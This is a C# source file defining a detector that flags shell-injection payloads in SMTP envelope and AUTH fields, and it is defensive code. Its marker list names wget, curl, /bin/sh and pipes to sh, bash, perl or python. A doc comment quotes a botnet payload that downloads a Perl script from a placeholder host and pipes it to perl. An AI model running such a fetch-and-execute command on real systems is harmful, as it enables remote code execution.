using System.Runtime.CompilerServices;
namespace AttackDash.Core.Sendmail;

/// <summary>
/// Spots shell payloads in attacker-controlled fields (envelope sender, recipient, AUTH user). The
/// markers are those of real botnet payloads, e.g. <c>arg1=&lt;`wget http://x/a.pl|perl`&gt;</c>.
/// </summary>
public static class InjectionDetector
{
    private static readonly byte[][] Markers =
    [
        "`"u8.ToArray(), "$("u8.ToArray(), "${"u8.ToArray(), "/bin/sh"u8.ToArray(), "/bin/bash"u8.ToArray(),
        "wget "u8.ToArray(), "wget+"u8.ToArray(), "wget$"u8.ToArray(), "curl "u8.ToArray(), "curl+"u8.ToArray(),
        "curl$"u8.ToArray(), ";sh"u8.ToArray(),
    ];

    private static readonly byte[][] PipeTargets =
        ["sh"u8.ToArray(), "bash"u8.ToArray(), "perl"u8.ToArray(), "python"u8.ToArray()];

    [MethodImpl(MethodImplOptions.AggressiveOptimization)]
    public static bool IsInjection(ReadOnlySpan<byte> field)
    {
        if (field.IsEmpty)
            return false;
        foreach (var marker in Markers)
        {
            if (field.IndexOf(marker) >= 0)
                return true;
        }
        return HasPipeToInterpreter(field);
    }

    private static bool IsWordByte(byte c) => char.IsAsciiLetterOrDigit((char)c) || c is (byte)'@' or (byte)'.' or (byte)'_' or (byte)'-';

    private static bool HasPipeToInterpreter(ReadOnlySpan<byte> field)
    {
        var pipe = field.IndexOf((byte)'|');
        while (pipe >= 0)
        {
            var after = field[(pipe + 1)..].TrimStart((byte)' ');
            foreach (var target in PipeTargets)
            {
                // "|sh" must end the word: "a|shop@example.org" is an odd but harmless address.
                if (after.StartsWith(target) && (after.Length == target.Length || !IsWordByte(after[target.Length])))
                    return true;
            }
            var next = after.IndexOf((byte)'|');
            if (next < 0)
                return false;
            field = after;
            pipe = next;
        }
        return false;
    }
}
